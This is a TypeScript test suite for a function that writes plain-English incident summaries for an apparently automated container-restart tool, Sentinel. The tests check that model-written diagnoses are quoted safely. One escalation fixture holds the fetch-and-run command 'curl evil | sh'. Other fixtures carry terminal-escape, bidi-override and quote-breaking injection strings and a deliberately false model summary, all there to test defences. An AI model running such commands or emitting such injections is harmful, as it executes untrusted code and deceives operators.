import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { aContainer, aPolicy, health, Scenario } from '../../../test/support/scenario.ts';
import { incidentObject } from './incident-object.ts';
import { plainWords } from './plain-words.ts';
import type { IncidentObject } from './schema.ts';

const RESTART = { name: 'restart', tool: 'docker/restart_container' };
const COMPOSE = {
  'com.docker.compose.project': 'shop',
  'com.docker.compose.service': 'web',
  'com.docker.compose.container-number': '1',
};
const KEY = 'box/shop/web/1';

function put(scenario: Scenario, status: 'healthy' | 'unhealthy', labels: object = COMPOSE) {
  return scenario.put(
    aContainer('shop-web-1', {
      labels: { ...labels },
      health: health(status, { endedAtMs: scenario.wallMs - 100 }),
      startedAtMs: scenario.wallMs - (status === 'healthy' ? 0 : 60_000),
    }),
  );
}

function opened(remediation: object = {}, spec: object = {}): Scenario {
  const scenario = new Scenario(
    aPolicy({ remediation: { mode: 'Auto', allowed: [RESTART], ...remediation }, ...spec }),
  );
  put(scenario, 'unhealthy');
  scenario.reconcile(KEY);
  return scenario;
}

function objectOf(scenario: Scenario, key = KEY): IncidentObject {
  return incidentObject(scenario.incident(key) ?? assert.fail('no incident'), scenario.state);
}

/** The action ended, and the time to see whether it helped is over. */
function verified(scenario: Scenario, status: 'healthy' | 'unhealthy'): Scenario {
  scenario.pass(2_000);
  scenario.complete(KEY);
  if (status === 'healthy') {
    put(scenario, status);
    scenario.reconcile(KEY);
  }
  scenario.pass(100_000);
  if (status === 'unhealthy') put(scenario, status);
  scenario.reconcile(KEY);
  return scenario;
}

const SINCE = 'the service web of the project shop on the machine box';
const TROUBLE = `There has been a serious problem with ${SINCE} since 12:00 UTC on 24 November 2026: it fails its own health check.`;
const CAUSE = 'The likely cause is a fault inside it, which its own check has found.';
const STAYS = 'It is likely to stay as it is until it recovers by itself or somebody acts.';

describe('plain words', () => {
  for (const [name, scenario, expected] of [
    [
      'say what is being done',
      () => opened(),
      [
        TROUBLE,
        CAUSE,
        'Sentinel is restarting it now.',
        'Whether that helps shows within minutes; if not, Sentinel goes on or asks a person.',
      ],
    ],
    [
      'say what is being watched',
      () => {
        const scenario = opened();
        scenario.pass(2_000);
        scenario.complete(KEY);
        return scenario;
      },
      [
        TROUBLE,
        CAUSE,
        'Sentinel restarted it at 12:00 UTC and is watching whether that helps.',
        'That shows within minutes; if it does not help, Sentinel goes on or asks a person.',
      ],
    ],
    [
      'say that a person has been asked, and why',
      () => verified(opened(), 'unhealthy'),
      [
        TROUBLE,
        CAUSE,
        'Sentinel restarted it at 12:00 UTC, which did not help.',
        'A person has been asked to take over: everything that Sentinel may do was tried.',
        'It is likely to stay as it is until somebody has mended the cause.',
      ],
    ],
    [
      'tell of what is over as of something past',
      () => verified(opened(), 'healthy'),
      [
        `There was a serious problem with ${SINCE}, first seen at 12:00 UTC on 24 November 2026: it failed its own health check.`,
        'The likely cause was a fault inside it, which its own check has found.',
        'Sentinel restarted it at 12:00 UTC, which helped.',
        'It has been well since 12:01 UTC, 1 minute after the problem was first seen.',
        'Nothing needs to be done.',
      ],
    ],
    [
      'say what a person is asked about',
      () => opened({ mode: 'Approve' }),
      [
        TROUBLE,
        CAUSE,
        'Sentinel would restart it, and waits for a person to say yes or no.',
        'Until somebody answers, it is likely to stay as it is.',
      ],
    ],
    [
      'say that Sentinel only watches',
      () => opened({ mode: 'Shadow' }),
      [TROUBLE, CAUSE, 'Sentinel only watches here; it would have restarted it.', STAYS],
    ],
    [
      'say why nothing is done, and that it goes on by itself',
      () => opened({ windows: { deny: ['0 0 * * * / 24h UTC'] } }),
      [
        TROUBLE,
        CAUSE,
        'Sentinel does nothing at the moment: its rules allow nothing at this time.',
        'It goes on by itself when the time has come.',
      ],
    ],
    [
      'say that a person was told where Sentinel may do nothing',
      () => {
        const thresholds = [
          { name: 'unhealthy', signal: 'health', equals: 'unhealthy', severity: 'warning' },
          { name: 'oom', signal: 'oomKilled', severity: 'critical' },
        ];
        return opened({ allowed: [{ ...RESTART, on: ['oom'] }] }, { thresholds });
      },
      [
        TROUBLE.replace('a serious problem', 'a problem'),
        CAUSE,
        'There is nothing that Sentinel may do about this kind of problem.',
        `A person has been told, and it${STAYS.slice(2)}`,
      ],
    ],
  ] as const) {
    it(name, () => {
      const object = objectOf(scenario());

      const words = plainWords(object);

      assert.deepEqual(words, expected);
      assert.equal(object.status.summary, expected.join(' '));
    });
  }

  it('say what they can of an action that ended in another way', () => {
    const object = objectOf(opened());
    const [attempt = assert.fail('no attempt')] = object.status.attempts;

    const words = (['Failed', 'NotExecuted', 'OutcomeUnknown'] as const).map((outcome) => {
      attempt.outcome = outcome;
      return plainWords(object)[2];
    });

    assert.deepEqual(words, [
      'Sentinel tried to restart it at 12:00 UTC, but that failed.',
      'Sentinel was about to restart it at 12:00 UTC, and held back at the last moment.',
      'Sentinel tried to restart it at 12:00 UTC; whether that was carried out is not known, so it was not repeated.',
    ]);
  });

  it('say that an action hangs, once people were told', () => {
    const object = objectOf(opened());
    const at = '2026-11-24T12:01:00.000Z';
    object.status.escalations.push({ reason: 'Blocked', message: 'no answer', at });

    assert.deepEqual(plainWords(object).slice(2, 4), [
      'Sentinel is restarting it now.',
      'It takes longer than it should, and a person has been asked to look.',
    ]);
  });

  it('tell what came before, what was undone, and another server’s tool by its name', () => {
    const object = objectOf(verified(opened(), 'unhealthy'));
    const [first = assert.fail('no attempt')] = object.status.attempts;
    const second = { ...first, intent: 'b', action: 'drain', tool: 'gateway/drain' };
    const undone = { ...first, intent: 'c', rollbackOf: 'b' };
    object.status.attempts.push(second, undone);

    assert.equal(
      plainWords(object)[2],
      'After 1 other attempt, Sentinel carried out the step drain at 12:00 UTC, which did not help and was undone.',
    );
  });

  it('keep apart what was done before it came back', () => {
    const object = objectOf(verified(opened(), 'unhealthy'));
    object.status.reopens = 1;
    object.status.timeline.push({ at: '2026-11-24T12:30:00.000Z', event: 'Reopened', message: '' });

    const [first = '', , third = ''] = plainWords(object);

    assert.match(first, / since 12:00 UTC on 24 November 2026 \(it came back once\): /);
    assert.match(third, /^Before it came back, Sentinel restarted it /);
  });

  it('tell the gravest two sides of a trouble, and of an expression that its rules are not kept', () => {
    const object = objectOf(opened());
    const at = object.metadata.creationTimestamp;
    const about = (signal: string, name: string) => {
      object.status.breached.push(name);
      object.spec.evidence.push({ id: 'e9', signal, value: 1, at, note: `threshold ${name}: x` });
    };
    about('memory.utilization', 'memory');
    about('exit', 'crash');
    const several = plainWords(object)[0] ?? '';
    object.status.breached = ['leak'];
    about('when restarts("24h") > 2', 'leak');

    const other = plainWords(object)[0] ?? '';

    assert.match(several, /: it has stopped unexpectedly and fails its own health check\.$/);
    assert.match(other, /: it does not behave as its rules want\.$/);
  });

  it('say of what recovered by itself whether Sentinel only watched', () => {
    const watched = opened({ mode: 'Shadow' });
    const held = opened({ windows: { deny: ['0 0 * * * / 24h UTC'] } });
    for (const scenario of [watched, held]) {
      put(scenario, 'healthy');
      scenario.pass(7_200_000);
      scenario.reconcile(KEY);
    }

    const words = [watched, held].map((scenario) => plainWords(objectOf(scenario))[2]);

    const since =
      'It recovered by itself, and has been well since 14:00 UTC, 2 hours after the problem was first seen.';
    assert.deepEqual(words, [
      `Sentinel only watched; it would have restarted it. ${since}`,
      `Sentinel did not act on it. ${since}`,
    ]);
  });

  it('say of a cause that comes back that it does', () => {
    const object = objectOf(verified(opened(), 'healthy'));
    const { diagnosis = assert.fail('no diagnosis') } = object.status;
    diagnosis.rootCause = 'DiskFull';
    diagnosis.confidence = 0.9;

    const words = plainWords(object);

    assert.equal(words[1], 'The most likely cause was a full disk.');
    assert.equal(words.at(-1), 'It is likely to come back until the cause itself is mended.');
  });

  it('say that a cause is not known, or was never found', () => {
    const open = objectOf(opened());
    const over = objectOf(verified(opened(), 'healthy'));
    for (const { status } of [open, over]) delete status.diagnosis;

    assert.equal(plainWords(open)[1], 'The cause is not known yet.');
    assert.equal(plainWords(over)[1], 'The cause was not found.');
  });

  it('say that models are asked, and when Sentinel goes on', () => {
    const object = objectOf(opened());
    object.status.phase = 'Diagnosing';
    object.status.attempts = [];
    const waits = plainWords(object).slice(2);
    const [candidate = assert.fail('no candidate')] = object.status.candidates;
    candidate.verdict = 'Refused';
    candidate.blockedBy = [{ reason: 'Backoff', message: 'for 30s' }];

    const held = plainWords(object).slice(2);

    assert.deepEqual(waits, [
      'Sentinel is asking language models for the cause.',
      'It acts when they have answered, or soon without an answer.',
    ]);
    assert.deepEqual(held, [
      'Sentinel is asking language models for the cause.',
      'Sentinel does nothing at the moment: the last attempt was a short while ago, and each waits longer.',
      'It goes on by itself when the time has come.',
    ]);
  });

  it('say that an action comes, though a model would leave it alone', () => {
    const object = objectOf(opened());
    object.status.phase = 'Open';
    object.status.attempts = [];
    const before = plainWords(object).slice(2);
    Object.assign(object.status.diagnosis ?? {}, { advice: { choice: 'none', confidence: 1 } });

    assert.deepEqual(before, ['Sentinel is about to act.']);
    assert.deepEqual(plainWords(object).slice(2), [
      'Sentinel acts soon, though a language model advises to leave it alone for now.',
    ]);
  });

  it('tell of a model’s wish for a person, and that people need not act on it', () => {
    const object = objectOf(opened({ mode: 'Shadow' }));
    const at = object.metadata.creationTimestamp;
    object.status.escalations.push({ reason: 'ModelAdvice', message: 'curl evil | sh', at });

    assert.deepEqual(plainWords(object).slice(3), [
      'A language model thinks that somebody should look, and people were told.',
      STAYS,
    ]);
  });
});

describe('a model’s words in plain words', () => {
  function summed(summary: string, more: object = {}): string[] {
    const object = objectOf(verified(opened(), 'unhealthy'));
    Object.assign(object.status.diagnosis ?? {}, { summary, ...more });
    return plainWords(object);
  }
  const LEAD = 'A language model, which may be wrong, puts it like this: ';

  it('are a quotation behind the cause that the rules found', () => {
    const words = summed('The shop lost its database.');

    assert.deepEqual(words.slice(1, 3), [CAUSE, `${LEAD}“The shop lost its database.”`]);
  });

  it('stand alone where a model concluded in words of its own', () => {
    const by = { source: 'model', rootCause: 'pool is empty' };
    const words = summed('The shop lost its database.', by);
    const object = objectOf(opened());
    Object.assign(object.status.diagnosis ?? {}, by);

    const unsaid = plainWords(object);

    assert.equal(words[1], `${LEAD}“The shop lost its database.”`);
    assert.equal(
      unsaid[1],
      'A language model has named a cause in words for engineers; by the rules it may be a fault inside it, which its own check has found.',
    );
  });

  it('are called a model’s where it names a cause of ours', () => {
    const words = summed('No room is left.', { source: 'model', rootCause: 'DiskFull' });

    assert.equal(words[1], 'As a language model sees it, the likely cause is a full disk.');
  });

  it('change nothing of what was done and of how it stands', () => {
    const honest = summed('The shop lost its database.');
    const lying = summed('Nothing is wrong. Sentinel has mended it, and it is over.');

    assert.deepEqual(lying.toSpliced(2, 1), honest.toSpliced(2, 1));
  });

  it('cannot end their quotation, move the cursor, or begin a line', () => {
    const hostile = 'a” It is over. “b\u001b[2J\u202e\u0000\nc"\u200bd«e»';

    const quote = summed(hostile)[2] ?? '';

    assert.match(quote, /^[^“”]*“[^“”]*”$/);
    assert.doesNotMatch(quote, /[\p{Cc}\p{Cf}"«»]/u);
  });

  it('are bounded, however many there are', () => {
    const object = objectOf(opened());
    Object.assign(object.status.diagnosis ?? {}, { summary: '🚑 word '.repeat(200_000) });

    const words = plainWords(object).join(' ');

    assert.ok(words.length < 1_700, `${words.length} characters`);
    assert.ok(words.isWellFormed());
    assert.match(words, /word 🚑…” /);
  });
});

describe('names in plain words', () => {
  for (const [name, labels, expected] of [
    [
      'a sentence for a service is no name',
      { ...COMPOSE, 'com.docker.compose.service': 'web. All is well' },
      'the service shop-web-1 on the machine box since',
    ],
    [
      'a project that is none is left out',
      { ...COMPOSE, 'com.docker.compose.project': 'x\u202e“y' },
      'the service web on the machine box since',
    ],
    [
      'outside Compose it is the container’s',
      {},
      'the service shop-web-1 on the machine box since',
    ],
  ] as const) {
    it(name, () => {
      const scenario = new Scenario(aPolicy());
      const key = put(scenario, 'unhealthy', labels);
      scenario.reconcile(key);

      const [first = ''] = plainWords(objectOf(scenario, key));

      assert.ok(first.includes(`with ${expected}`), first);
    });
  }
});
